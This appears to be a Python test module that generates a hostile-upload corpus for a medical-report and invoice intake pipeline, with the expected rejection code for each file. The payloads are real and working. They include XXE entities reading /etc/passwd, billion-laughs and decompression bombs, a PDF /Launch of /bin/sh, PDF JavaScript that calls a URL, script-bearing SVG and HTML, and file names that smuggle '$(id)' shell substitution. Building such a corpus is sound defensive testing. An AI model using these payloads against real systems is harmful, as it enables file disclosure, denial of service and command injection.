"""The hostile-input corpus: files an uploader could send to crash, hang, exhaust or fool the
intake pipeline. Generated at test time (nothing big is committed; the 100 MB XML only exists
while its test runs):

    python tests/hostile_corpus.py OUT_DIR [--big]      # writes OUT_DIR/<case>/<file> + cases.json

Each `Case` is one file with the codes the pipeline may answer for it: the file must end with
one of `expect` (or, when `clean_ok`, be read and judged on its content like any other file:
harmless-but-odd input such as a PDF carrying JavaScript or a name starting with a dash). A
`manifest` case replaces folio.json instead and expects an input error (CLI exit 2).

Hostile bytes are built by hand (raw PDF objects, PNG/JPEG headers) so that each one is exactly
the attack it names; reportlab and Pillow only make the benign parts."""

from __future__ import annotations

import io
import json
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass
from functools import partial
from pathlib import Path

CFDI_NS = 'xmlns:cfdi="http://www.sat.gob.mx/cfd/4" Version="4.0"'
PASSWD = "file:///etc/passwd"


@dataclass(frozen=True)
class Case:
    id: str
    filename: str  # as uploaded; "" for a manifest case
    expect: frozenset[str]  # acceptable finding codes for the file (or the folio, PKG-004/005)
    clean_ok: bool = False  # no finding at all is fine too, provided the file was read
    manifest: bool = False  # the bytes replace folio.json; the pipeline must refuse the input
    big: bool = False  # only with --big / big=True (100 MB)
    xfail: str = ""  # a known defect outside the sandbox: the reason, reported, not hidden

    def to_json(self) -> dict:
        return {**asdict(self), "expect": sorted(self.expect)}


# ----------------------------------------------------------------------------------- builders


def text_pdf(lines: list[str], *, encrypt=None) -> bytes:
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, encrypt=encrypt, invariant=1)
    y = 800
    for line in lines:
        c.drawString(60, y, line)
        y -= 18
    c.showPage()
    c.save()
    return buf.getvalue()


MEDICAL_REPORT = [
    "INFORME MEDICO",
    "Paciente: PACIENTE DE PRUEBA",
    "Diagnostico: faringitis aguda",
    "Medico tratante: DR. JUAN PEREZ",
    "Cedula profesional 1234567",
    "Fecha 2026-11-10",
]


def raw_pdf(objects: list[bytes], *, root: int = 1, broken_xref: bool = False, trailer_extra: bytes = b"") -> bytes:
    """A PDF from object bodies (object i+1 = objects[i]) with a correct (or garbage) xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % (offset * 7 + 13 if broken_xref else offset)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer_extra,
        xref + (999 if broken_xref else 0),
    )
    return bytes(out)


def stream(data: bytes, extra: bytes = b"", *, deflate: bool = False) -> bytes:
    if deflate:
        data, extra = zlib.compress(data, 9), extra + b" /Filter /FlateDecode"
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pages_pdf(
    count: int, *, content: bytes = b"", media: bytes = b"[0 0 612 792]", extra_objects=(), resources: bytes = b"<< >>"
) -> bytes:
    """`count` pages sharing one content stream (so 10,000 pages stay small)."""
    first_page = 4 + len(extra_objects)
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        stream(content),
        *extra_objects,
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 3 0 R /Resources %s >>" % (media, resources)
    ] * count
    return raw_pdf(objects)


def deflate_bomb(decoded_mb: int) -> bytes:
    return deflate_zeros(decoded_mb << 20)


def deflate_zeros(size: int) -> bytes:
    """A valid zlib stream of `size` zero bytes (about 1 KB per MB), built without compressing
    them all: after a full flush the deflate state is reset, so every further MB of zeros
    compresses to the same bytes; the Adler-32 of n zero bytes is (n mod 65521) << 16 | 1."""
    comp = zlib.compressobj(9)
    mb = 1 << 20
    full, rest = divmod(size, mb)
    parts = []
    if full:
        parts.append(comp.compress(bytes(mb)) + comp.flush(zlib.Z_FULL_FLUSH))
        if full > 1:
            parts.append((comp.compress(bytes(mb)) + comp.flush(zlib.Z_FULL_FLUSH)) * (full - 1))
    parts.append(comp.compress(bytes(rest)) + comp.flush()[:-4])
    return b"".join(parts) + struct.pack(">I", ((size % 65521) << 16) | 1)


def png(width: int, height: int, idat: bytes | None = None) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    if idat is None:
        idat = zlib.compress(b"\x00" * (width + 1))  # one row; the rest is missing
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", idat)
        + chunk(b"IEND", b"")
    )


def png_bomb(side: int) -> bytes:
    """A real grayscale PNG of side x side zeros: a few hundred KB that decode to side^2 bytes."""
    return png(side, side, deflate_zeros(side * (side + 1)))  # filter byte 0 + black pixels: all zeros


def jpeg_header(width: int, height: int) -> bytes:
    """SOI, a baseline SOF0 declaring width x height (JPEG's maximum is 65,535), and nothing else."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + sof + b"\xff\xd9"


def jpeg(width: int, height: int, quality: int = 10, text: bool = False) -> bytes:
    from PIL import Image, ImageDraw

    image = Image.new("L", (width, height), 255)
    if text:
        ImageDraw.Draw(image).text((20, 20), "INFORME MEDICO", fill=0)
    buf = io.BytesIO()
    image.save(buf, "JPEG", quality=quality)
    return buf.getvalue()


def jpeg_comment(data: bytes, comment: bytes) -> bytes:
    """`data` (a JPEG) with a COM segment holding `comment` right after SOI."""
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def reencoded(xml: bytes, codec: str, bom: bytes) -> bytes:
    """A UTF-8 XML document in another encoding, its declaration saying so."""
    name = codec.rsplit("-", 1)[0].upper()
    return bom + xml.decode().replace('encoding="UTF-8"', f'encoding="{name}"').encode(codec)


def zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("payload.txt", "not what it seems " * 100)
    return buf.getvalue()


def comprobante(body: str = "", head: str = "", attrs: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{head}<cfdi:Comprobante {CFDI_NS} {attrs}>{body}</cfdi:Comprobante>'
    ).encode()


def billion_laughs() -> bytes:
    ents = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return comprobante("&lol9;", f"<!DOCTYPE cfdi:Comprobante [{''.join(ents)}]>")


def quadratic_blowup() -> bytes:
    return comprobante("&a;" * 20_000, f'<!DOCTYPE cfdi:Comprobante [<!ENTITY a "{"A" * 50_000}">]>')


def huge_xml(size: int) -> bytes:
    """A CFDI-looking document padded to `size` bytes inside one comment."""
    head, tail = comprobante().split(b"</cfdi:Comprobante>")
    pad = size - len(head) - len(tail) - len(b"</cfdi:Comprobante>") - 7
    return head + b"<!--" + b"x" * pad + b"-->" + b"</cfdi:Comprobante>" + tail


# ------------------------------------------------------------------------------------ cases

R = frozenset  # readability


def cases(net_url: str = "http://127.0.0.1:9/") -> list[tuple[Case, Callable[[], bytes]]]:
    """Every case with the function that makes its bytes. `net_url`: where a network XXE or an
    external DTD would call (the test serves it and checks nothing ever arrives)."""
    report = partial(text_pdf, MEDICAL_REPORT)  # benign content under hostile names
    good_pdf = report()
    xml_bad = R({"CFDI-001"})
    xml_any = R({"CFDI-001", "CFDI-002"})
    unreadable = R({"PKG-006"})
    pdf_judged = R({"PKG-006", "PKG-008"})
    out: list[tuple[Case, Callable[[], bytes]]] = []

    def add(case_id, filename, expect, make, **kw):
        out.append((Case(case_id, filename, R(expect), **kw), make))

    # -- XML
    add(
        "xxe-local-file",
        "xxe_file.xml",
        xml_bad,
        lambda: comprobante("&x;", f'<!DOCTYPE cfdi:Comprobante [<!ENTITY x SYSTEM "{PASSWD}">]>'),
    )
    add(
        "xxe-network",
        "xxe_net.xml",
        xml_bad,
        lambda: comprobante("&x;", f'<!DOCTYPE cfdi:Comprobante [<!ENTITY x SYSTEM "{net_url}xxe">]>'),
    )
    add(
        "xxe-parameter-entity",
        "xxe_param.xml",
        xml_bad,
        lambda: comprobante("", f'<!DOCTYPE cfdi:Comprobante [<!ENTITY % p SYSTEM "{net_url}param.dtd"> %p;]>'),
    )
    add(
        "external-dtd",
        "external_dtd.xml",
        xml_bad,
        lambda: comprobante("", f'<!DOCTYPE cfdi:Comprobante SYSTEM "{net_url}cfdi.dtd">'),
    )
    add("billion-laughs", "billion_laughs.xml", xml_bad, billion_laughs)
    add("quadratic-blowup", "quadratic.xml", xml_bad, quadratic_blowup)
    add("deeply-nested-5k", "nested_5k.xml", xml_bad, lambda: comprobante("<a>" * 5000 + "</a>" * 5000))
    add("deeply-nested-200k", "nested_200k.xml", xml_bad, lambda: comprobante("<a>" * 200_000 + "</a>" * 200_000))
    add(
        "xinclude",
        "xinclude.xml",
        xml_any,
        lambda: comprobante(
            f'<xi:include href="{PASSWD}" parse="text"/>', attrs='xmlns:xi="http://www.w3.org/2001/XInclude"'
        ),
    )
    add(
        "xslt-pi",
        "xslt_pi.xml",
        xml_any,
        lambda: comprobante(head=f'<?xml-stylesheet type="text/xsl" href="{net_url}evil.xsl"?>'),
    )
    add("xml-5mb", "grande_5mb.xml", xml_bad, lambda: huge_xml(5 * 1024 * 1024))
    add("xml-3mb-attribute", "atributo_3mb.xml", xml_any, lambda: comprobante(attrs=f'Serie="{"S" * 3_000_000}"'))
    add("xml-100mb", "grande_100mb.xml", {"PKG-005", "CFDI-001"}, lambda: huge_xml(100 * 1024 * 1024), big=True)
    add("xml-not-wellformed", "roto.xml", xml_bad, lambda: comprobante("<a>")[:-10])
    add("xml-utf16-lie", "utf16.xml", xml_bad, lambda: b'<?xml version="1.0" encoding="UTF-16"?><a>\xff\xfe</a>')
    add(
        "xml-wrong-root",
        "otra_raiz.xml",
        xml_bad,
        lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    )
    add("xml-with-pdf-header", "polyglot_pdf_header.xml", {"PKG-002"}, lambda: b"%PDF-1.7\n" + comprobante())
    add("xml-zero-bytes", "vacio.xml", unreadable, lambda: b"")
    add("xml-binary-garbage", "basura.xml", {"PKG-002"}, lambda: bytes(range(256)) * 64)
    add("xml-utf16-bom", "utf16_bom.xml", {"CFDI-002"}, lambda: reencoded(comprobante(), "utf-16-le", b"\xff\xfe"))
    add("xml-utf16be-bom", "utf16be_bom.xml", {"CFDI-002"}, lambda: reencoded(comprobante(), "utf-16-be", b"\xfe\xff"))
    add(
        "xml-utf32-bom",
        "utf32_bom.xml",
        {"CFDI-002"},
        lambda: reencoded(comprobante(), "utf-32-le", b"\xff\xfe\x00\x00"),
    )
    add("xml-utf16-no-bom", "utf16_sin_bom.xml", {"CFDI-002"}, lambda: reencoded(comprobante(), "utf-16-le", b""))
    add(
        "xml-latin1",
        "latin1.xml",
        {"CFDI-002"},
        lambda: comprobante(attrs='Serie="\u00d1"').decode().replace("UTF-8", "ISO-8859-1").encode("latin-1"),
    )

    # -- PDF
    add(
        "pdf-javascript",
        "con_javascript.pdf",
        pdf_judged,
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                b"<< /S /JavaScript /JS (app.launchURL\\('" + net_url.encode() + b"js'\\); while\\(true\\){}) >>",
            ]
        ),
        clean_ok=False,
    )
    add(
        "pdf-launch-action",
        "lanzar.pdf",
        pdf_judged,
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            ]
        ),
    )
    add("pdf-10000-pages", "diez_mil_paginas.pdf", pdf_judged, lambda: pages_pdf(10_000))
    add(
        "pdf-deflate-bomb-content",
        "bomba_contenido.pdf",
        pdf_judged,
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                (lambda z: b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(z) + z + b"\nendstream")(
                    deflate_bomb(1024)
                ),
            ]
        ),
    )
    add(
        "pdf-image-bomb",
        "bomba_imagen.pdf",
        pdf_judged,
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /Im 5 0 R >> >> >>",
                stream(b"q 612 0 0 792 0 0 cm /Im Do Q"),
                (
                    lambda z: (
                        b"<< /Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray "
                        b"/BitsPerComponent 8 /Length %d /Filter /FlateDecode >>\nstream\n"
                        % len(z)
                        + z
                        + b"\nendstream"
                    )
                )(deflate_bomb(900)),
            ]
        ),
    )
    add(
        "pdf-encrypted-user-password",
        "cifrado_con_clave.pdf",
        unreadable,
        lambda: text_pdf(MEDICAL_REPORT, encrypt=_encryption("secreto", "dueno")),
    )
    add(
        "pdf-encrypted-owner-only",
        "cifrado_sin_clave.pdf",
        pdf_judged,
        lambda: text_pdf(MEDICAL_REPORT, encrypt=_encryption("", "dueno")),
        clean_ok=True,
    )
    add("pdf-truncated", "truncado.pdf", pdf_judged, lambda: good_pdf[: len(good_pdf) // 2])
    add("pdf-header-only", "solo_encabezado.pdf", unreadable, lambda: b"%PDF-1.7\n")
    add(
        "pdf-broken-xref",
        "xref_roto.pdf",
        pdf_judged,
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            ],
            broken_xref=True,
        ),
        clean_ok=True,
    )
    add(
        "pdf-page-tree-cycle",
        "ciclo_paginas.pdf",
        pdf_judged,
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
            ]
        ),
    )
    add("pdf-huge-page", "pagina_enorme.pdf", pdf_judged, lambda: pages_pdf(1, media=b"[0 0 14400 14400]"))
    add(
        "pdf-recursive-xobject",
        "xobject_recursivo.pdf",
        pdf_judged,
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >> >>",
                stream(b"/F Do"),
                stream(
                    b"/F Do",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /F 5 0 R >> >>",
                ),
            ]
        ),
    )
    add(
        "pdf-nested-arrays",
        "arreglos_anidados.pdf",
        pdf_judged,
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 100_000 + b"]" * 100_000 + b" >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            ]
        ),
    )
    add("pdf-zip-polyglot", "poliglota_zip.pdf", pdf_judged, lambda: good_pdf + zip_bytes(), clean_ok=True)
    add("pdf-zero-bytes", "vacio.pdf", unreadable, lambda: b"")
    add("pdf-named-jpg", "factura_pdf.jpg", {"PKG-002"}, lambda: good_pdf)
    add("zip-named-pdf", "comprimido.pdf", {"PKG-002"}, zip_bytes)
    add("zip-as-zip", "comprimido.zip", {"PKG-001"}, zip_bytes)

    # -- images
    add("png-100k-header-named-png", "enorme.png", {"PKG-001"}, lambda: png(100_000, 100_000))
    add("png-100k-header-named-jpg", "enorme_png.jpg", {"PKG-002"}, lambda: png(100_000, 100_000))
    add("png-bomb-named-jpg", "bomba_png.jpg", {"PKG-002"}, lambda: png_bomb(16_000))
    add("jpeg-65k-header", "enorme.jpg", unreadable, lambda: jpeg_header(65_500, 65_500))
    add("jpeg-13k-header", "grande_sin_datos.jpg", pdf_judged, lambda: jpeg_header(13_000, 13_000))
    add("jpeg-bomb-81mpx", "bomba.jpg", pdf_judged, lambda: jpeg(9_000, 9_000, quality=5))
    add("jpeg-truncated", "truncada.jpg", pdf_judged, lambda: jpeg(800, 600, 80, text=True)[:1500])
    add("jpeg-zero-bytes", "vacia.jpg", unreadable, lambda: b"")
    add("jpeg-zero-bytes-jpeg-ext", "vacia.jpeg", unreadable, lambda: b"")
    add("jpeg-zip-polyglot", "poliglota.jpg", pdf_judged, lambda: jpeg(400, 300, 50, text=True) + zip_bytes())
    add("jpeg-soi-only", "solo_soi.jpg", pdf_judged, lambda: b"\xff\xd8\xff\xd9")
    add(
        "jpeg-pdf-in-comment",
        "comentario_pdf.jpg",
        pdf_judged,
        lambda: jpeg_comment(jpeg(400, 300, 50, text=True), b"%PDF-1.7"),
    )
    add(
        "jpeg-pdf-in-comment-named-pdf",
        "comentario_pdf.pdf",
        {"PKG-002"},
        lambda: jpeg_comment(jpeg(400, 300, 50, text=True), b"%PDF-1.7"),
    )
    add("gif-named-jpg", "animacion.jpg", {"PKG-002"}, lambda: b"GIF89a" + b"\x00" * 64)
    add(
        "svg-named-svg",
        "dibujo.svg",
        {"PKG-001"},
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    )
    add("html-named-html", "pagina.html", {"PKG-001"}, lambda: b"<html><script>alert(1)</script></html>")
    add("no-extension", "sin_extension", {"PKG-001"}, lambda: good_pdf)
    add("zero-bytes-unknown", "vacio.docx", {"PKG-001"}, lambda: b"")

    # -- names (content is a readable medical report; only the name is hostile)
    add("name-cyrillic-lookalike", "f\u0430ctura.pdf", {"PKG-003"}, report)
    add("name-fullwidth", "\uff49nforme.pdf", {"PKG-003"}, report)
    add("name-rtl-override-exe", "informe\u202efdp.exe", {"PKG-001", "PKG-003"}, report)
    add("name-rtl-override-pdf", "informe\u202egpj.pdf", {"PKG-003"}, report)
    add("name-255-bytes", "a" * 251 + ".pdf", {"PKG-003"}, report, clean_ok=True)
    add("name-254-bytes-accented", "\u00e9" * 125 + ".pdf", {"PKG-003"}, report)
    add("name-leading-dash", "-rf.pdf", {"PKG-003"}, report, clean_ok=True)
    add("name-double-dash", "--help.pdf", {"PKG-003"}, report, clean_ok=True)
    add("name-double-extension", "informe.exe.pdf", {"PKG-003"}, report)
    add("name-double-extension-exe", "informe.pdf.exe", {"PKG-001", "PKG-003"}, report)
    add("name-newline", "informe\nmedico.pdf", {"PKG-003"}, report)
    add("name-ansi-escape", "\x1b[31minforme.pdf", {"PKG-003"}, report)
    add("name-shell-chars", "informe $(id) & `id`.pdf", {"PKG-003"}, report)
    add("name-dotfile", ".pdf", {"PKG-001"}, report)

    # -- folio.json
    add("manifest-huge", "", set(), lambda: b'{"folio": "X", "pad": "' + b"x" * 2_000_000 + b'"}', manifest=True)
    add("manifest-deep-arrays", "", set(), lambda: b"[" * 200_000 + b"]" * 200_000, manifest=True)
    add("manifest-deep-objects", "", set(), lambda: b'{"a":' * 100_000 + b"1" + b"}" * 100_000, manifest=True)
    add("manifest-not-json", "", set(), lambda: b"\x00\xffnot json", manifest=True)
    add("manifest-zero-bytes", "", set(), lambda: b"", manifest=True)
    add("manifest-array", "", set(), lambda: b"[1, 2, 3]", manifest=True)
    add("manifest-huge-integer", "", set(), lambda: b'{"folio": ' + b"9" * 5000 + b"}", manifest=True)
    add(
        "manifest-duplicate-key",
        "",
        set(),
        lambda: (
            b'{"folio": "H-DUP", "claim_type": "reembolso", '
            b'"received_at": "2026-11-20T10:00:00-06:00", "claim_type": "alta_cuenta"}'
        ),
        manifest=True,
    )
    add(
        "manifest-future-date",
        "",
        set(),
        lambda: b'{"folio": "H-FUT", "claim_type": "reembolso", "received_at": "2099-11-20T10:00:00-06:00"}',
        manifest=True,
    )
    return out


def _encryption(user: str, owner: str):
    from reportlab.lib.pdfencrypt import StandardEncryption

    return StandardEncryption(user, owner, strength=128)


def generate(dest: Path, *, big: bool = False, net_url: str = "http://127.0.0.1:9/") -> list[Case]:
    """Write each case to dest/<case id>/<file> (or dest/<case id>/folio.json) and cases.json."""
    dest = Path(dest)
    written = []
    for case, make in cases(net_url):
        if case.big and not big:
            continue
        folder = dest / case.id
        folder.mkdir(parents=True, exist_ok=True)
        (folder / ("folio.json" if case.manifest else case.filename)).write_bytes(make())
        written.append(case)
    (dest / "cases.json").write_text(json.dumps([c.to_json() for c in written], ensure_ascii=False, indent=1))
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path("hostile-corpus")
    made = generate(target, big="--big" in sys.argv)
    print(f"{len(made)} cases in {target}")
